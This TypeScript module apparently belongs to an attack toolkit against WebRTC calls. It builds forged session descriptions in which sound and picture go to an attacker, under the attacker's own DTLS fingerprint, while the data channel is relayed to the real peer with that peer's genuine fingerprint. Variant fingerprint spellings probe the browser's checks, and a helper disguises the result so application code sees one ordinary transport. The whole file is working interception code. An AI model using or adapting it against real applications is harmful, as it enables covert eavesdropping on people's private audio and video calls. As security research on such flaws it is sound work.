/** The offers of an attacker who answers for the data channel with another transport than for sound and picture. */
import type { LegView } from './dtls-relay';

/** How the fingerprints of sound and picture are written. */
export type Spelling = 'sha-256' | 'sha-1' | 'two spaces' | 'upper case' | 'second sha-384' | 'second sha-1';

export interface Plan {
  /**
   * `browser`: the offer takes the place of the one that our own code has made, below that code. `sdp` and `extra
   * fields`: it travels as a signal, as the whole description, or added to an innocent one.
   */
  way: 'browser' | 'sdp' | 'extra fields';
  groups: 'two' | 'unbundled';
  spelling: Spelling;
  level: 'session' | 'media';
  /**
   * Connects the two people honestly at first. In the second round `split` does what other plans do in the first, and
   * `moved` leads everything to the attacker, with the attacker's fingerprint.
   */
  later?: 'split' | 'moved';
}

/** The hashes of a certificate, as a description writes them. */
export interface Prints {
  'sha-1': string;
  'sha-256': string;
  'sha-384': string;
}

const NEWLINE = '\r\n';
const join = (lines: string[]) => lines.join(NEWLINE) + NEWLINE;

function mediaFingerprints(spelling: Spelling, own: Prints, other: string): string[] {
  const first = `a=fingerprint:sha-256 ${other}`;
  switch (spelling) {
    case 'sha-256':
      return [`a=fingerprint:sha-256 ${own['sha-256']}`];
    case 'two spaces':
      return [`a=fingerprint:sha-256  ${own['sha-256']}`];
    case 'upper case':
      return [`a=FINGERPRINT:SHA-256 ${own['sha-256']}`];
    case 'sha-1':
      return [`a=fingerprint:sha-1 ${own['sha-1']}`];
    case 'second sha-384':
      return [first, `a=fingerprint:sha-384 ${own['sha-384']}`];
    case 'second sha-1':
      return [first, `a=fingerprint:sha-1 ${own['sha-1']}`];
  }
}

function dataSection({ fragment, password, address, port }: LegView, other: string, setup: string): string {
  return join([
    'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
    'c=IN IP4 0.0.0.0',
    `a=ice-ufrag:${fragment}`,
    `a=ice-pwd:${password}`,
    'a=ice-options:trickle',
    `a=fingerprint:sha-256 ${other}`,
    `a=setup:${setup}`,
    'a=mid:4',
    'a=sctp-port:5000',
    'a=max-message-size:262144',
    `a=candidate:1 1 udp 2122260223 ${address} ${port} typ host`,
  ]);
}

interface Parts {
  /** The attacker's own offer: four sections of media, and one of messages. */
  offer: string;
  own: Prints;
  /** The true fingerprint of the person whom the attacker plays. */
  other: string;
  leg: LegView;
  setup: 'active' | 'passive';
}

const BUNDLE = 'a=group:BUNDLE 0 1 2 3';

/** Sound and picture only. */
const mediaOf = (sdp: string): string =>
  sdp.slice(0, sdp.indexOf('m=application')).replace(`${BUNDLE} 4`, BUNDLE);

/** Media leads to the attacker, and the data channel through the relay to the other person. */
export function splitOffer(
  { groups, spelling, level }: Plan,
  { offer, own, other, leg, setup }: Parts,
): string {
  const media = mediaOf(offer);
  const lines = mediaFingerprints(spelling, own, other);
  const group = groups === 'two' ? join([BUNDLE, 'a=group:BUNDLE 4']) : join([BUNDLE]);
  const shared = level === 'session' ? group + join(lines) : group;
  const inMedia = level === 'media' ? join(lines) : '';
  return (
    media.replace(BUNDLE + NEWLINE, shared).replace(/a=fingerprint:\S+ \S+\r\n/g, (line) =>
      // The lines that were just put before the first section stay.
      lines.includes(line.trim()) && level === 'session' ? line : inMedia,
    ) + dataSection(leg, other, setup)
  );
}

/** Everything leads through the relay to the other person. */
export function honestOffer({ offer, other, leg, setup }: Parts): string {
  const data = dataSection(leg, other, setup);
  return (
    mediaOf(offer)
      .replace(BUNDLE, `${BUNDLE} 4`)
      .replace(/a=ice-ufrag:.*/g, `a=ice-ufrag:${leg.fragment}`)
      .replace(/a=ice-pwd:.*/g, `a=ice-pwd:${leg.password}`)
      .replace(/a=fingerprint:.*/g, `a=fingerprint:sha-256 ${other}`)
      .replace(/a=setup:.*/g, `a=setup:${setup}`) + data
  );
}

export const DATA_MID = '4';

/** The transport of the data section in a victim's answer. */
export function dataTransport(sdp: string): { fragment: string; password: string; candidates: string[] } {
  const section = sdp.slice(sdp.indexOf('m=application'));
  return {
    fragment: /a=ice-ufrag:(\S+)/.exec(section)?.[1] ?? '',
    password: /a=ice-pwd:(\S+)/.exec(section)?.[1] ?? '',
    candidates: [...section.matchAll(/a=(candidate:.*)/g)].map(([, line = '']) => line.trim()),
  };
}

/** A victim's answer for the attacker, who has no part in its data section. */
export function mediaAnswer(sdp: string): string {
  const [media = '', data = ''] = sdp.split('m=application 9');
  return `${media.replace(/a=group:BUNDLE 4\r\n/, '')}m=application 0${data}`;
}

/** An answer as one transport would have it. Code that reads it sees nothing of the split. */
export function innocent(sdp: string): string {
  const media = sdp.slice(0, sdp.indexOf('m=application')).replace(/a=group:BUNDLE .*\r\n/g, '');
  const take = (name: string) => new RegExp(`a=${name}:\\S+`).exec(media)?.[0] ?? '';
  const data = sdp
    .slice(sdp.indexOf('m=application'))
    .replace(/a=ice-ufrag:\S+/, take('ice-ufrag'))
    .replace(/a=ice-pwd:\S+/, take('ice-pwd'))
    .replace(/a=setup:\S+/, take('setup'))
    .replace(/a=candidate:.*\r\n/g, '');
  return media.replace(/\r\nt=0 0\r\n/, `\r\nt=0 0\r\n${join([`${BUNDLE} 4`])}`) + data;
}
